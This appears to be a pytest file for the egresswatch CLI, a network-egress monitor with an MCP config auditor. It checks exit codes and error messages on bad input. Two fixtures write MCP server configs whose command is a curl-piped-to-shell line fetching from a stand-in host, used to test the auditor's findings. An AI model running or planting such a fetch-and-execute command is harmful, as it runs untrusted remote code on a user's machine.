"""Every command on bad input, as a user runs it (a separate process): the exit
code (2 for a usage mistake, 1 for anything else), one line
``egresswatch: error: WHERE: WHAT`` naming the input, never a traceback.

TABLE holds the simple cases (command, set-up, exit code, message); the cases
that need a pipe, a terminal, a read-only mount or a running daemon have their
own tests below. The non-root cases run as a real unprivileged user made with
useradd (tests/test_cli_nonroot.py)."""

from __future__ import annotations

import json
import os
import pty
import signal
import sqlite3
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.helpers.netlab import missing, wait_for

REPO = Path(__file__).resolve().parents[1]
PCAPS = REPO / "pcaps"


def ew(*args: str, cwd: Path = REPO, env: dict[str, str] | None = None, timeout: float = 60,
       stdin: int | None = subprocess.DEVNULL) -> subprocess.CompletedProcess[str]:  # fmt: skip
    return subprocess.run(
        [sys.executable, "-m", "egresswatch", *args], capture_output=True, text=True, cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})}, timeout=timeout, stdin=stdin,
    )  # fmt: skip


def one_error_line(stderr: str) -> str:
    """The single error line; fails on a traceback or on more than one line."""
    assert "Traceback" not in stderr, stderr
    # warnings about the environment (e.g. install-service: a checkout under /tmp) may precede it
    lines = [ln for ln in stderr.splitlines() if ln.strip() and not ln.startswith("egresswatch: warning: ")]
    assert len(lines) == 1, stderr
    assert lines[0].startswith("egresswatch: error: "), lines[0]
    return lines[0]


def pcap_records(path: Path) -> tuple[bytes, list[bytes]]:
    """(global header, records) of a little-endian classic pcap."""
    data = path.read_bytes()
    out, off = [], 24
    while off < len(data):
        caplen = struct.unpack_from("<I", data, off + 8)[0]
        out.append(data[off : off + 16 + caplen])
        off += 16 + caplen
    return data[:24], out


def big_pcap(path: Path, copies: int) -> int:
    """pcaps/dns-answers.pcap repeated ``copies`` times, a second apart; returns the events."""
    header, records = pcap_records(PCAPS / "dns-answers.pcap")
    parts = [header]
    for i in range(copies):
        for r in records:
            sec = struct.unpack_from("<I", r)[0] + i
            parts.append(struct.pack("<I", sec) + r[4:])
    path.write_bytes(b"".join(parts))
    return copies * 12


@dataclass(frozen=True)
class Case:
    name: str
    args: Callable[[Path], list[str]]
    code: int
    message: str  # a substring of the one error line
    setup: Callable[[Path], None] = lambda d: None


def _foreign_db(d: Path) -> None:
    conn = sqlite3.connect(d / "foreign.db")
    conn.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, ts REAL, kind TEXT, verdict TEXT, msg TEXT)")
    conn.execute("INSERT INTO events (ts, kind, verdict, msg) VALUES (1, 'x', 'y', 'z')")
    conn.commit()
    conn.close()


def _write(name: str, text: str) -> Callable[[Path], None]:
    def setup(d: Path) -> None:
        (d / name).parent.mkdir(parents=True, exist_ok=True)
        (d / name).write_text(text)

    return setup


def _unknown_linktype(d: Path) -> None:
    header = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 147)
    record = struct.pack("<IIII", 1, 0, 4, 4) + b"abcd"
    (d / "user0.pcap").write_bytes(header + record + record)


TABLE = [
    # usage mistakes: exit 2, WHERE is the command and the option
    Case("unknown option", lambda d: ["events", "--bogus"], 2, "events: No such option '--bogus'"),
    Case("unknown command", lambda d: ["nosuch"], 2, "No such command 'nosuch'"),
    Case("bad time", lambda d: ["events", "--since", "yesterday-ish"], 2, "events --since: cannot parse time"),
    Case("bad choice", lambda d: ["replay", "--format", "xml", "x.pcap"], 2, "replay --format: 'xml' is not one of"),
    Case("missing argument", lambda d: ["replay"], 2, "replay: Missing argument 'FILES...'"),
    Case("two import sources", lambda d: ["allowlist", "import"], 2, "allowlist import: give exactly one"),
    Case("notifier --interval -1", lambda d: ["notifier", "--interval", "-1"], 2, "notifier --interval: -1.0: must be"),
    Case("notifier --interval nan", lambda d: ["notifier", "--interval", "nan"], 2, "notifier --interval: nan"),
    Case("notifier --interval inf", lambda d: ["notifier", "--interval", "inf"], 2, "notifier --interval: inf"),
    Case("notifier --interval 0 (busy poll)", lambda d: ["notifier", "--interval", "0"], 2, "notifier --interval"),
    Case("run --iface bogus0", lambda d: ["run", "--iface", "bogus0"], 2, "run --iface: 'bogus0': no such network interface"),
    Case("replay a directory", lambda d: ["replay", str(d)], 2, "is a directory"),
    # everything else: exit 1, WHERE is the file
    Case("config error names the file", lambda d: ["events", "--config", str(d / "c.toml")], 1,
         "c.toml: daemon.nonsense: unknown key", _write("c.toml", "[daemon]\nnonsense = 1\n")),
    Case("invalid launcher pattern refused", lambda d: ["replay", "--config", str(d / "re.toml"), str(PCAPS / "connect.pcap")],
         1, "re.toml: discovery.launcher_patterns[0]: invalid regular expression",
         _write("re.toml", '[discovery]\nlauncher_patterns = ["npx(", "mcp"]\n')),
    Case("events on a foreign events table", lambda d: ["events", "--db", str(d / "foreign.db")], 1,
         "foreign.db: not an egresswatch database (its events table lacks frame", _foreign_db),
    Case("stats on a foreign events table", lambda d: ["stats", "--db", str(d / "foreign.db")], 1,
         "foreign.db: not an egresswatch database", _foreign_db),
    Case("replay --db on a foreign events table", lambda d: ["replay", "--db", str(d / "foreign.db"), str(PCAPS / "connect.pcap")],
         1, "foreign.db: not an egresswatch database", _foreign_db),
    Case("events on a missing database", lambda d: ["events", "--db", str(d / "none.db")], 1, "none.db: no such database"),
    Case("replay --db under /proc", lambda d: ["replay", "--db", "/proc/ew-test.db", str(PCAPS / "connect.pcap")], 1,
         "/proc/ew-test.db: a kernel file system is no place for a database"),
    Case("replay --db a /proc file", lambda d: ["replay", "--db", "/proc/self/status", str(PCAPS / "connect.pcap")], 1,
         "/proc/self/status: a kernel file system"),
    Case("replay --db under a file", lambda d: ["replay", "--db", str(d / "f" / "x.db"), str(PCAPS / "connect.pcap")], 1,
         "/f is not a directory", _write("f", "a file")),
    Case("run --record-procs under a file", lambda d: ["run", "--record-procs", str(d / "f" / "p.jsonl")], 1,
         "/f is not a directory", _write("f", "a file")),
    Case("run --record-procs under /proc", lambda d: ["run", "--record-procs", "/proc/ew/p.jsonl"], 1,
         "/proc/ew is not a directory"),
    Case("status: not JSON", lambda d: ["status", "--status-file", str(d / "s.json")], 1,
         "s.json: malformed status file (not JSON", _write("s.json", '{"upd')),
    Case("status: not an object", lambda d: ["status", "--status-file", str(d / "s.json")], 1,
         "s.json: malformed status file (not a JSON object)", _write("s.json", "[1, 2]")),
    Case("status: updated not a number", lambda d: ["status", "--status-file", str(d / "s.json")], 1,
         "s.json: malformed status file (updated is not a number)", _write("s.json", '{"updated": "soon", "pid": 1}')),
    Case("status: counters not an object", lambda d: ["status", "--status-file", str(d / "s.json")], 1,
         "malformed status file (counters is not an object)",
         _write("s.json", '{"updated": 1, "interval": 1, "pid": 1, "counters": [1]}')),
    Case("status: missing file", lambda d: ["status", "--status-file", str(d / "none.json")], 1,
         "none.json: no status (is the daemon running?)"),
    Case("replay /dev/zero", lambda d: ["replay", "/dev/zero"], 1, "/dev/zero: not a regular file or a pipe"),
    Case("replay /dev/urandom", lambda d: ["replay", "/dev/urandom"], 1, "/dev/urandom: not a regular file or a pipe"),
    Case("replay a missing file", lambda d: ["replay", str(d / "none.pcap")], 1, "none.pcap: No such file or directory"),
    Case("audit --fail-on info on a truncated config", lambda d: ["audit", "--home", str(d / "nohome"), "--project", str(d / "p"),
         "--fail-on", "info", "--format", "json"], 1, "",
         _write("p/.vscode/mcp.json", '{"servers": {"x": {"command": "sh", "args": ["-c", "curl https://x.example/i | sh"')),
]  # fmt: skip


@pytest.fixture
def work(tmp_path: Path) -> Path:
    d = tmp_path / "w"
    d.mkdir()
    return d


@pytest.mark.parametrize("case", TABLE, ids=lambda c: c.name)
def test_bad_input_table(case: Case, work: Path) -> None:
    case.setup(work)
    t0 = time.monotonic()
    result = ew(*case.args(work), cwd=work)
    assert result.returncode == case.code, (result.returncode, result.stderr)
    if case.message:
        line = one_error_line(result.stderr)
        assert case.message in line, line
    assert "Traceback" not in result.stderr
    assert time.monotonic() - t0 < 30  # /dev/zero and friends are refused, not read


def test_audit_reports_the_unreadable_config_as_a_finding(work: Path) -> None:
    _write("p/.vscode/mcp.json", '{"servers": {"x": {"command": "sh", "args": ["-c", "curl x | sh"')(work)
    result = ew("audit", "--home", str(work / "nohome"), "--project", str(work / "p"), "--format", "json",
                "--fail-on", "info")  # fmt: skip
    assert result.returncode == 1
    (finding,) = json.loads(result.stdout)
    assert finding["code"] == "unreadable_config" and finding["severity"] == "high"
    assert finding["file"].endswith(".vscode/mcp.json") and "invalid JSON" in finding["finding"]
    high = ew("audit", "--home", str(work / "nohome"), "--project", str(work / "p"), "--fail-on", "high")
    assert high.returncode == 1 and "unreadable_config" in high.stdout


def test_replay_into_head_stops_quietly_and_early(work: Path) -> None:
    capture = work / "big.pcap"
    total = big_pcap(capture, 3000)
    db = work / "e.db"
    cmd = (f"{sys.executable} -m egresswatch replay --config /dev/null --db {db} {capture} | head -1; "
           "exit ${PIPESTATUS[0]}")  # fmt: skip
    result = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, cwd=REPO,
                            env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=120)  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    assert len(result.stdout.splitlines()) == 1 and json.loads(result.stdout)["file"] == str(capture)
    conn = sqlite3.connect(db)
    stored = conn.execute("SELECT count(*) FROM events").fetchone()[0]
    conn.close()
    assert 1 <= stored < total / 2, (stored, total)  # it stopped; what it decoded was stored


def test_replay_reads_past_a_bad_file_and_names_files(work: Path) -> None:
    bad = work / "bad.pcap"
    bad.write_bytes(b"\x00" * 300)
    a, c = PCAPS / "connect.pcap", PCAPS / "dns-answers.pcap"
    result = ew("replay", "--config", "/dev/null", str(a), str(bad), str(c))
    assert result.returncode == 1
    assert one_error_line(result.stderr) == f"egresswatch: error: {bad}: not a pcap or pcapng file"
    events = [json.loads(line) for line in result.stdout.splitlines()]
    assert [e["file"] for e in events] == [str(a)] * 3 + [str(c)] * 12
    assert [e["frame"] for e in events if e["file"] == str(c)][:3] == [1, 2, 3]  # per-file numbers
    assert list(events[0])[:3] == ["ts", "frame", "file"]
    table = ew("replay", "--config", "/dev/null", "--format", "table", str(a), str(c))
    assert table.returncode == 0 and f" {c}:12 " in table.stdout
    two_bad = ew("replay", str(bad), str(work / "none.pcap"), str(a))
    assert two_bad.returncode == 1 and len(two_bad.stdout.splitlines()) == 3
    assert len(two_bad.stderr.splitlines()) == 2 and "Traceback" not in two_bad.stderr


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv", "table"])
def test_replay_formats(fmt: str) -> None:
    result = ew("replay", "--config", "/dev/null", "--format", fmt, str(PCAPS / "connect.pcap"))
    assert result.returncode == 0, result.stderr
    if fmt == "json":
        assert [e["frame"] for e in json.loads(result.stdout)] == [1, 5, 8]
    elif fmt == "jsonl":
        assert len(result.stdout.splitlines()) == 3
    elif fmt == "csv":
        lines = result.stdout.splitlines()
        assert lines[0].startswith("ts,frame,file,kind,") and len(lines) == 4
    else:
        assert len(result.stdout.splitlines()) == 3 and "connect" in result.stdout


def test_replay_pipe_of_garbage_refused_at_the_first_bytes(work: Path) -> None:
    result = subprocess.run(
        f"head -c 50000000 /dev/zero | {sys.executable} -m egresswatch replay /dev/stdin",
        shell=True, capture_output=True, text=True, cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
        timeout=60,
    )  # fmt: skip
    assert result.returncode == 1
    assert one_error_line(result.stderr) == "egresswatch: error: /dev/stdin: not a pcap or pcapng file"


def test_unknown_link_type_is_an_error_naming_the_frames(work: Path) -> None:
    _unknown_linktype(work)
    result = ew("replay", str(work / "user0.pcap"), str(PCAPS / "connect.pcap"))
    assert result.returncode == 1 and len(result.stdout.splitlines()) == 3  # the next file is still read
    assert one_error_line(result.stderr) == (
        f"egresswatch: error: {work / 'user0.pcap'}: 2 frame(s) of link type 147 not decoded (no decoder for it)"
    )


@pytest.fixture
def ro_mount(tmp_path: Path) -> Iterator[Path]:
    """A read-only bind mount of a directory holding an egresswatch database."""
    if os.geteuid() != 0:
        missing("needs root to mount")
    src, mnt = tmp_path / "src", tmp_path / "ro"
    src.mkdir()
    mnt.mkdir()
    assert (
        ew(
            "replay", "--config", "/dev/null", "--db", str(src / "e.db"), str(PCAPS / "connect.pcap")
        ).returncode
        == 0
    )
    subprocess.run(["mount", "--bind", str(src), str(mnt)], check=True)
    try:
        subprocess.run(["mount", "-o", "remount,ro,bind", str(mnt)], check=True)
        yield mnt
    finally:
        subprocess.run(["umount", str(mnt)], check=True)


def test_read_only_file_system(ro_mount: Path) -> None:
    existing = ew("replay", "--db", str(ro_mount / "e.db"), str(PCAPS / "connect.pcap"))
    assert existing.returncode == 1
    assert (
        one_error_line(existing.stderr)
        == f"egresswatch: error: {ro_mount / 'e.db'}: on a read-only file system"
    )
    new = ew("replay", "--db", str(ro_mount / "new.db"), str(PCAPS / "connect.pcap"))
    assert new.returncode == 1 and "Read-only file system" in one_error_line(new.stderr)
    record = ew("run", "--record-procs", str(ro_mount / "p.jsonl"))
    assert record.returncode == 1 and "on a read-only file system" in one_error_line(record.stderr)
    install = ew("install-service", "--prefix", str(ro_mount / "root"))
    assert install.returncode == 1 and "cannot write: Read-only file system" in one_error_line(install.stderr)
    reading = ew("events", "--db", str(ro_mount / "e.db"), "--format", "jsonl")  # reading still works
    assert reading.returncode == 0 and len(reading.stdout.splitlines()) == 3


def _pty_run(args: list[str], env: dict[str, str]) -> tuple[int, str]:
    """Run with stdout and stderr on a terminal; returns (exit code, what it printed)."""
    main, sub = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "egresswatch", *args], stdout=sub, stderr=sub,
                            stdin=subprocess.DEVNULL, cwd=REPO,
                            env={**os.environ, "PYTHONPATH": str(REPO), **env})  # fmt: skip
    os.close(sub)
    chunks = []
    while True:
        try:
            data = os.read(main, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    os.close(main)
    return proc.wait(timeout=60), b"".join(chunks).decode("utf-8", "replace")


def test_events_says_how_many_were_not_shown_on_a_terminal(work: Path) -> None:
    db = work / "e.db"
    capture = work / "big.pcap"
    total = big_pcap(capture, 10)
    assert ew("replay", "--config", "/dev/null", "--db", str(db), str(capture)).returncode == 0
    code, text = _pty_run(["events", "--db", str(db), "--limit", "5"], {"NO_COLOR": "1"})
    assert code == 0 and f"5 of {total} shown (--limit 0 for all)" in text
    piped = ew("events", "--db", str(db), "--limit", "5")
    assert piped.returncode == 0 and "shown" not in piped.stderr and len(piped.stdout.splitlines()) == 6


def test_events_domain_matches_idna_forms(work: Path) -> None:
    from egresswatch.model import TLS_SNI
    from egresswatch.store.db import Store
    from tests.test_store import make_event

    db = work / "e.db"
    with Store(db) as s:
        s.write(make_event(1_700_000_000.0, kind=TLS_SNI, name="api.xn--bcher-kva.example"))
        s.write(make_event(1_700_000_001.0, kind=TLS_SNI, name="raw.b\\195\\188cher.example"))
        s.write(make_event(1_700_000_002.0, kind=TLS_SNI, name="other.example"))
    for pattern in ("*.bücher.example", "*.BÜCHER.example", "*.xn--bcher-kva.example"):
        result = ew("events", "--db", str(db), "--domain", pattern, "--format", "jsonl")
        names = sorted(json.loads(x)["dst_name"] for x in result.stdout.splitlines())
        assert names == ["api.xn--bcher-kva.example", "raw.b\\195\\188cher.example"], pattern


def test_servers_and_audit_tables_fit_the_terminal(work: Path) -> None:
    long = "/" + "/".join(["a-rather-long-directory-name"] * 6)
    cfg = work / "p" / ".mcp.json"
    cfg.parent.mkdir()
    cfg.write_text(json.dumps({"mcpServers": {
        "fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", long, long + "/b"],
               "env": {"GITHUB_TOKEN": "ghp_" + "x" * 36, "SOME_OTHER_LONG_VARIABLE_NAME": "1"}},
    }}))  # fmt: skip
    for cmd in (["servers", "--no-live"], ["audit"]):
        code, text = _pty_run([*cmd, "--home", str(work / "nohome"), "--project", str(work / "p")],
                              {"COLUMNS": "80", "NO_COLOR": "1"})  # fmt: skip
        lines = [ln for ln in text.replace("\r", "").splitlines() if ln]
        assert lines and all(len(ln) <= 80 for ln in lines), [len(ln) for ln in lines]
        assert "fs" in text
    wide = ew("audit", "--home", str(work / "nohome"), "--project", str(work / "p"))
    assert any(len(ln) > 80 for ln in wide.stdout.splitlines())  # not a terminal: whole lines, for grep


@pytest.mark.parametrize("cmd", [["servers"], ["audit"], ["events"], ["stats"]])
@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv"])
def test_one_format_option(cmd: list[str], fmt: str, work: Path) -> None:
    db = work / "e.db"
    assert ew("replay", "--config", "/dev/null", "--db", str(db), str(PCAPS / "connect.pcap")).returncode == 0
    extra = (
        ["--db", str(db)] if cmd[0] in ("events", "stats") else ["--home", str(work), "--project", str(work)]
    )
    result = ew(*cmd, "--format", fmt, *extra)
    assert result.returncode == 0, result.stderr
    if fmt == "json":
        assert isinstance(json.loads(result.stdout), list)


def test_notifier_warns_once_about_a_missing_database(work: Path, caplog: pytest.LogCaptureFixture) -> None:
    from egresswatch.alert.notifier import follow

    polls = {"n": 0}

    def stop() -> bool:
        polls["n"] += 1
        return polls["n"] > 5

    with caplog.at_level("WARNING", logger="egresswatch.alert.notifier"):
        follow(work / "none.db", lambda a: True, interval=0.01, should_stop=stop)
    warnings = [r.getMessage() for r in caplog.records]
    assert len(warnings) == 1 and "none.db" in warnings[0], warnings


def test_startup_summary_does_not_count_unusable_alert_urls(work: Path) -> None:
    if os.geteuid() != 0:
        missing("the daemon needs root")
    os.chmod(work.parent, 0o700)
    cfg = work / "config.toml"
    cfg.write_text('[alerts]\nurls = ["nosuchscheme://x", "json://127.0.0.1:9/x"]\n')
    os.chmod(cfg, 0o600)
    proc = subprocess.Popen(
        [sys.executable, "-m", "egresswatch", "run", "--config", str(cfg), "--db", str(work / "e.db"),
         "--status-file", str(work / "status.json"), "--iface", "lo"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )  # fmt: skip
    lines: list[str] = []
    reader = threading.Thread(target=lambda: lines.extend(iter(proc.stderr.readline, "")), daemon=True)  # type: ignore[union-attr]
    reader.start()
    try:
        line = wait_for(lambda: next((ln for ln in lines if "capturing on" in ln), None), timeout=60,
                        what="start-up summary")  # fmt: skip
        assert "1 alert targets; 1 unusable alert URL ignored" in line, line
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
    assert "Traceback" not in "".join(lines)


def test_install_service_names_the_running_egresswatch(work: Path) -> None:
    fake = work / "bin"
    fake.mkdir()
    (fake / "egresswatch").write_text("#!/bin/sh\nexit 0\n")
    os.chmod(fake / "egresswatch", 0o755)
    env = {"PATH": f"{fake}:{os.environ['PATH']}"}
    result = ew("install-service", "--prefix", str(work / "root"), env=env)
    assert result.returncode == 0, result.stderr
    unit = (work / "root/etc/systemd/system/egresswatch.service").read_text()
    assert f"ExecStart={sys.executable} -m egresswatch run" in unit
    script = Path(sys.executable).parent / "egresswatch"
    if script.exists():  # the console script of this install
        result = subprocess.run([str(script), "install-service", "--prefix", str(work / "root2")],
                                capture_output=True, text=True, env={**os.environ, **env})  # fmt: skip
        assert result.returncode == 0, result.stderr
        unit = (work / "root2/etc/systemd/system/egresswatch.service").read_text()
        assert f"ExecStart={script} run" in unit
    assert str(fake) not in unit


@pytest.mark.parametrize("args", [[], ["allowlist"]])
def test_group_without_its_command_prints_its_help(args: list[str]) -> None:
    result = ew(*args)
    assert result.returncode == 2 and result.stderr.startswith("Usage: egresswatch")
    assert "Commands:" in result.stderr and "\\x0a" not in result.stderr and "Traceback" not in result.stderr
